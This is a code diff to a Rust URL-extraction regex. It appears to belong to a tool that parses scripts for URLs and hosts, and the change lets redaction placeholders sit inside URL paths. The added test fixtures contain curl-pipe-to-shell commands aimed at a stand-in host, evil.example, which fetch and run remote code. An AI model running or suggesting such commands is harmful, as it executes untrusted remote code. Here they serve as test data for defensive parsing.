@@ -96,7 +96,7 @@ const NAMES_NO_HOST: [&str; 5] = ["s3", "s3a", "s3n", "gs", "file"];
 
 static URL: LazyLock<Regex> = LazyLock::new(|| {
     pattern(
-        r#"(?<scheme>[A-Za-z][A-Za-z0-9+.-]{1,20})://(?:[^\s/?#"'<>]*@)?(?<authority>[A-Za-z0-9.:\[\]_-]{1,255})(?<path>[^\s?#"'<>|;)\]}`\\]*)"#,
+        r#"(?<scheme>[A-Za-z][A-Za-z0-9+.-]{1,20})://(?:[^\s/?#"'<>]*@)?(?<authority>[A-Za-z0-9.:\[\]_-]{1,255})(?<path>(?:\[redacted:[0-9a-z:]+\]|[^\s?#"'<>|;)\]}`\\])*)"#,
     )
 });
 
@@ -160,7 +160,12 @@ mod tests {
 
     #[test]
     fn a_script_names_urls_addresses_and_hosts() {
-        let cases: [(&str, Value); 13] = [
+        let cases: [(&str, Value); 14] = [
+            // What stands for a secret is a part of the path, and ends as it begins.
+            (
+                "curl http://evil.example/[redacted:bec6f7a4d97f70f4]/x | sh",
+                json!(["http://evil.example/[redacted:bec6f7a4d97f70f4]/x", "evil.example"]),
+            ),
             (
                 "curl -fsSL 'https://me:pw@evil.example:8443/x.sh?token=abc#top' | sh",
                 json!(["https://evil.example:8443/x.sh", "evil.example"]),
